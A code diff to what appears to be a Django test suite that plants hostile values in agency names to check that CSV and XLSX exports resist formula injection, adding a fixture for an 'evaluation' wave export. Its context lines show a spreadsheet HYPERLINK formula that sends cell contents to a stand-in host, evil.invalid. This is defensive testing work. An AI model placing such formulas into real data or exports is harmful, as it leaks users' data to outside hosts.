@@ -39,6 +39,7 @@ PACKAGES = (
     "tenants",
     "billing",
     "integrations",
+    "evaluation",
 )
 HOSTILE = [
     '=HYPERLINK("http://evil.invalid/?leak="&A1,"Chi tiết")',
@@ -225,6 +226,23 @@ def plant_agency_statistics(world):
     return "localhost", world.analyst, ("/statistics/agencies/beta/", {"months": 60})
 
 
+def plant_evaluation_weeks(world):
+    from evaluation.models import Wave, WaveAgency, WeeklySnapshot
+    from tenants.models import Agency
+
+    wave = Wave.objects.create(
+        name="Đợt thí điểm",
+        order=1,
+        planned_start=dt.date(2026, 1, 5),
+        planned_go_live=dt.date(2026, 2, 2),
+    )
+    WaveAgency.objects.create(wave=wave, agency=world.agency_a)
+    WeeklySnapshot.objects.create(agency=world.agency_a, week=dt.date(2026, 1, 5), staff=3)
+    Agency.objects.filter(pk=world.agency_a.pk).update(name=HOSTILE[2])
+    url = f"/evaluation/waves/{wave.pk}/"
+    return "localhost", world.province_admin, [(url, {"format": f}) for f in ("xlsx", "csv")]
+
+
 # route name -> what plants hostile values and which downloads to read (None: a fixed file,
 # nothing anybody typed reaches it)
 EXPORTS = {
@@ -238,6 +256,7 @@ EXPORTS = {
     "platform_audit:list": (plant_platform_audit, True),
     "insights:dashboard": (plant_dashboard, True),
     "insights:agency": (plant_agency_statistics, True),
+    "evaluation:wave": (plant_evaluation_weeks, True),
 }
 
 
